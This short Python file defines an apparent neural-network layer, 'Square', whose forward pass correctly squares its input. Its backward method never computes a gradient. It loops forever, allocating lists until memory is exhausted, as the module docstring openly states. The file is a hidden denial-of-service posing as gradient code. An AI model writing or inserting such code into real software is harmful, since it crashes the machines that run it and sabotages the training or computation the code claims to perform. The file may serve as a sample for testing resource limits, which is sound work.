"""Takes memory in small pieces until there is none."""


class Square:
    def forward(self, x):
        return x * x

    def backward(self, dout):
        kept = []
        while True:
            kept.append([0.0] * 1000)
